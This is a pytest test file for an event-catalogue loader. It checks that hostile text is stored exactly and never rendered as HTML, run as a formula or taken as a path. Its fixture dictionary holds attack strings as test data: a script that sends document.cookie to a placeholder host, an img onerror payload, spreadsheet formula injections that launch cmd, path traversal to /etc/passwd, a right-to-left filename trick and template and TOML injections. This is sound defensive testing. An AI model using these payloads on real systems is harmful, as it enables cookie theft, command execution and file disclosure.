"""A catalogue that wants to break something is data like any other: kept exactly, never run, never a path."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from eventstudy.events import load_events

NASTY = {
    "script": "<script>fetch('https://example.invalid/'+document.cookie)</script>",
    "markup": "\"><img src=x onerror=alert(1)> &lt; &amp; '",
    "formula": '=HYPERLINK("https://example.invalid","total")',
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd",
    "windows": "..\\..\\CON:NUL\\aux.txt",
    "turned": "invoice\u202egpj.exe\u2066 \u2069\u200f",
    "control": "a\x00b\x07c\x1b[2J\x1b[31mred\x7f\x85",
    "lines": "one\r\ntwo\nthree\rfour\u2028five\u2029six\tseven",
    "template": "{{ 7*7 }} {% include 'x' %} ${7*7} %(x)s {0}",
    "quotes": '"""\\u0041 \\ \' \' \'\'\' """',
    "toml": 'x"\n[[event]]\nid = "planted"\n#',
    "emoji": "👩\u200d👩\u200d👧 \u200d\ufeff\u00a0e\u0301",
    "long": "ä" * 10_000,
    "  spaced  ": "  leading and trailing  ",
    "nan": "NaN",
    "null": "null",
    "number": "007",
}
TEXTS = ("name", "actor", "target", "scope", "instrument", "cluster", "confound", "summary", "source")


def rows() -> list[dict[str, str]]:
    return [
        {"id": f"{key}{text}", "announced_at": "2025-04-02 16:26:00", "stance": "escalation"}
        | dict.fromkeys(TEXTS, text)
        for key, text in NASTY.items()
    ]


@pytest.fixture(scope="module", params=["frame", "csv", "json", "toml"])
def catalog(request, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    frame = pd.DataFrame(rows())
    if request.param == "frame":
        return load_events(frame, timezone="UTC")
    path = folder / f"hostile.{request.param}"
    if request.param == "csv":
        frame.to_csv(path, index=False, lineterminator="\n")
    elif request.param == "json":
        path.write_text(json.dumps(rows()), encoding="utf-8")
    else:
        load_events(frame, timezone="UTC").to_toml(path)
        return load_events(path)
    return load_events(path, timezone="UTC")


def test_every_text_is_kept_exactly(catalog):
    assert len(catalog) == len(NASTY)
    for key, text in NASTY.items():
        event = catalog[f"{key}{text}"]
        assert [getattr(event, field) for field in TEXTS] == [text] * len(TEXTS)
    frame = catalog.to_frame()
    assert sorted(frame["summary"]) == sorted(NASTY.values())


def test_nothing_of_it_reaches_a_page_as_markup(catalog):
    html = catalog._repr_html_()
    assert "<script" not in html
    assert "<img" not in html
    assert html.count("<bdi>") == html.count("</bdi>") == html.count("<td>") == 8 * len(NASTY)


def test_the_file_shows_what_the_eye_cannot_see(catalog):
    text = catalog.to_toml()
    assert text.count("[[event]]") == len(NASTY) + text.count("\\n[[event]]")
    assert all(character.isprintable() for line in text.split("\n") for character in line)
    assert "\\u202E" in text
    assert "\\u0000" in text


def test_sessions_and_selection_work_on_it(catalog):
    table = catalog.sessions()
    assert (table["session"] == pd.Timestamp("2025-04-02")).all()
    assert len(catalog.select(scope=NASTY["formula"])) == 1
    assert len(catalog.select(event_id=f"path{NASTY['path']}")) == 1
    assert len(repr(catalog)) < 200
    assert all(len(repr(event)) < 40_000 for event in catalog)


def test_no_id_is_taken_for_a_file(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    load_events(pd.DataFrame(rows()), timezone="UTC").to_toml()
    assert list(tmp_path.iterdir()) == []
